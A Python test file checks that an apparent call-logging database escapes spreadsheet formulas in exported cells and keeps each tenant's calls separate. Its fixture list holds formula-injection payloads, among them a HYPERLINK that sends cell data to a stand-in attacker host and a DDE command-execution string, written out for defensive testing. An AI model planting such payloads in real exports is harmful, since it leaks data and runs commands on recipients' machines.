"""What an owner opens in a spreadsheet calculates nothing: callers decide what stands in its cells."""

from __future__ import annotations

import re
import uuid

from tests.database.attacks.catalogue import relations
from tests.database.journal import DENTIST, DENTIST_OWNER, PLUMBER_OWNER
from tests.database.sandbox import Database, one

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@now",
    '"=1+1',
    "'=1+1",
    "\uff1d1+1",
    "tea;=1+1",
    "tea\n=1+1",
    "tea\t-1+1",
)
PLAIN = ("+15105550100", "-0.4", "1200", "Booked a cleaning.", "well-known", "a = b", "mail@people.example", "")
STARTS = re.compile(r"(?:^|[;\t\r\n])[\"'\s]*[-=+@\uff0b\uff0d\uff1d\uff20]")
CALLS = "call_log_for_spreadsheets"


def test_a_cell_that_would_calculate_has_an_apostrophe(database: Database) -> None:
    """Before the formula, also where some spreadsheets begin another cell; nothing else changes."""
    with database.admin() as connection:
        for formula in FORMULAS:
            cell = str(one(connection, "select private.cell(%s)", formula))
            assert (cell.replace("'", ""), len(cell)) == (formula.replace("'", ""), len(formula) + 1)
            assert not any(cell[begin.start() :].lstrip(";\t\r\n")[:1] != "'" for begin in STARTS.finditer(cell))


def test_numbers_and_words_are_as_they_are(database: Database) -> None:
    """Telephone numbers begin with +, sums may be below nothing, and words have hyphens."""
    with database.admin() as connection:
        assert [text for text in PLAIN if one(connection, "select private.cell(%s)", text) != text] == []


FORMULAS_EVERYWHERE = """
  do $$ declare c record; begin
    for c in select a.attrelid::regclass as t, a.attname from pg_attribute a
             where a.attrelid::regclass::text in ('calls', 'call_outcomes', 'call_turns') and not a.attisdropped
               and a.atttypid = 'text'::regtype and a.attgenerated = '' loop
      begin
        execute format('update %s set %I = %L', c.t, c.attname, '=1+1');
      exception when check_violation then null;    -- what can only be one of a few words is none
      end;
    end loop;
  end $$"""


def calls_of_a_joker(database: Database) -> None:
    """A call whose every text is a formula, of what was said and what was made of it."""
    call = str(uuid.uuid4())
    with database.admin() as connection:
        connection.execute(
            """insert into public.calls (id, client_id, to_e164, started_at, from_e164)
               values (%s, %s, '+15105550100', now(), '+15550001111')""",
            [call, DENTIST],
        )
        connection.execute(
            """insert into public.call_turns (call_id, seq, exchange, client_id, speaker, text, occurred_at)
               values (%s, 1, 1, %s, 'agent', '-', now())""",
            [call, DENTIST],
        )
        connection.execute(
            """insert into public.call_outcomes (call_id, client_id, outcome, sentiment, sentiment_score,
                 estimated_revenue, currency, analysis_version, model)
               values (%s, %s, 'booked', 'negative', -0.4, 95, 'USD', 1, 'rules-1')""",
            [call, DENTIST],
        )
        connection.execute(FORMULAS_EVERYWHERE)


def test_no_cell_of_a_spreadsheet_is_a_formula(database: Database) -> None:
    """In no column, whoever filled it; the view for programs says what was said."""
    calls_of_a_joker(database)
    with database.as_role("authenticated", sub=DENTIST_OWNER) as connection:
        raw = one(connection, "select to_jsonb(x) from public.call_log x")
        safe = one(connection, f"select to_jsonb(x) from public.{CALLS} x")
    assert sum(value == "=1+1" for value in raw.values()) >= 5
    assert {name for name, value in safe.items() if isinstance(value, str) and value[:1] in "=@\t\r"} == set()
    assert {name: value for name, value in safe.items() if value != "'=1+1"} == {
        name: value for name, value in raw.items() if value != "=1+1" and name in safe
    }


def test_a_spreadsheet_has_the_columns_of_its_source(database: Database) -> None:
    """Whoever adds a column makes the view for spreadsheets anew."""
    with database.admin() as connection:
        found = relations(connection)
    assert set(found[CALLS].columns) == set(found["call_log"].columns)


def test_a_spreadsheet_has_the_readers_own_calls(database: Database) -> None:
    """A neighbour's is empty."""
    calls_of_a_joker(database)
    with database.as_role("authenticated", sub=PLUMBER_OWNER) as connection:
        assert one(connection, f"select count(*) from public.{CALLS}") == 0
